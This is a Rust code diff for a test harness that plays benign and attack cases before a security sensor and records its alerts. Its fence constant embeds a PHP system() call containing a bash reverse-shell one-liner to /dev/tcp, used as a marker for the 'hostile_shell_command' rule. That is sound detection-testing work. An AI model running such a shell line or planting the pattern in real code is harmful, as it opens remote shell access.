@@ -1,6 +1,7 @@
 //! One run of the sensor: cases are played before it, all it takes in is recorded.
 
 use std::{
+    cell::RefCell,
     panic::{AssertUnwindSafe, catch_unwind},
     path::{Path, PathBuf},
     rc::Rc,
@@ -8,6 +9,7 @@ use std::{
 
 use super::{
     case::{Attack, Benign, Claim, Expected, Order, Profile, Row},
+    proof::Proof,
     stacks::{Stack, Stacks},
     turn::Turn,
 };
@@ -24,7 +26,8 @@ pub(crate) const FENCE: (&str, &str) = (
     "lab-fence.php",
     "system(\": 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' fence-\" . (int) $_GET['n'] . '-');",
 );
-const FENCE_RULE: &str = "hostile_shell_command";
+/// The rule by which the sensor tells of it, and no other alert of a fence comes before.
+pub(crate) const FENCE_RULE: &str = "hostile_shell_command";
 
 /// A sensor that records, and the fence beside it.
 pub(crate) struct Round {
@@ -62,7 +65,12 @@ impl Round {
         self.order
     }
 
-    fn turn<'t>(&self, stacks: &'t Stacks, stack: Stack, number: usize) -> Turn<'t> {
+    fn turn<'t>(
+        &self,
+        stacks: &'t Stacks,
+        (stack, root): (Stack, Option<u32>),
+        number: usize,
+    ) -> Turn<'t> {
         let order = match self.order {
             Order::Before => 'b',
             Order::After => 'a',
@@ -72,6 +80,8 @@ impl Round {
             stacks,
             stack,
             mark: format!("{name}{number:03}{order}"),
+            root,
+            proofs: RefCell::default(),
         }
     }
 
@@ -112,17 +122,23 @@ impl Round {
     }
 
     /// Plays ordinary work, each case up to a fence of its own.
-    pub(crate) fn work(&mut self, stacks: &Stacks, cases: &[(usize, &Benign)]) -> Vec<Row> {
+    pub(crate) fn work(&mut self, stacks: &Stacks, cases: &[(usize, &Benign)]) -> Vec<Worked> {
         self.settle(stacks);
-        let mut rows = Vec::new();
+        let mut all = Vec::new();
         for (number, case) in cases {
-            let stack = case.needs.first().copied().unwrap_or(Stack::Php);
-            let turn = self.turn(stacks, stack, *number);
+            let own = case.needs.first().copied();
+            let root = own.map(|stack| stacks.root(stack));
+            let turn = self.turn(stacks, (own.unwrap_or(Stack::Php), root), *number);
             let played = played(|| (case.act)(&turn));
             let alerts = self.since_fence();
-            rows.push(worked(case, self.order, played, &alerts));
+            all.push(Worked {
+                row: worked(case, self.order, played, &alerts),
+                profile: case.profile,
+                fence: self.fences,
+                proofs: turn.proofs.into_inner(),
+            });
         }
-        rows
+        all
     }
 
     /// Plays attacks one after another, then waits until each has been told of.
@@ -131,7 +147,7 @@ impl Round {
         let mut open = Vec::new();
         for (number, case) in cases {
             let root = stacks.root(case.stack);
-            let turn = self.turn(stacks, case.stack, *number);
+            let turn = self.turn(stacks, (case.stack, Some(root)), *number);
             let claim = played(|| (case.act)(&turn));
             open.push((*case, root, claim));
         }
@@ -167,6 +183,16 @@ impl Round {
         let late: Vec<Alert> = alerts.into_iter().chain(late).collect();
         (self.recording, (!late.is_empty()).then(|| listed(&late)))
     }
+}
+
+/// Ordinary work that was played: its row, so far, and what must be found in the recording
+/// for it to count.
+pub(crate) struct Worked {
+    pub(crate) row: Row,
+    pub(crate) profile: Profile,
+    /// Number of the fence that ended its turn.
+    pub(crate) fence: usize,
+    pub(crate) proofs: Vec<Proof>,
 }
 
 /// A claim, or why the case could not be played.
@@ -206,6 +232,7 @@ fn worked(case: &Benign, order: Order, played: Result<(), String>, alerts: &[Ale
         fired: rules(alerts.iter()),
         root: roots(alerts.iter()),
         alerts: ids(alerts.iter()),
+        proofs: Vec::new(),
         failure,
     }
 }
@@ -235,6 +262,7 @@ fn judged(case: &Attack, root: u32, claim: &Played, order: Order, alerts: &[Aler
         fired: rules(own()),
         root: roots(own()),
         alerts: ids(own()),
+        proofs: Vec::new(),
         failure,
     }
 }
@@ -247,7 +275,12 @@ fn is_of(alert: &Alert, case: &Attack) -> bool {
 pub(crate) fn is_fence(alert: &Alert) -> bool {
     let lineage = alert.lineage();
     let mut args = lineage.iter().flat_map(|relative| relative.args());
-    args.any(|arg| arg.contains(" fence-"))
+    args.any(is_word_of_fence)
+}
+
+/// An argument of the shell that is a fence.
+pub(crate) fn is_word_of_fence(arg: &str) -> bool {
+    arg.contains(" fence-")
 }
 
 fn ids<'a>(alerts: impl Iterator<Item = &'a Alert>) -> Vec<String> {
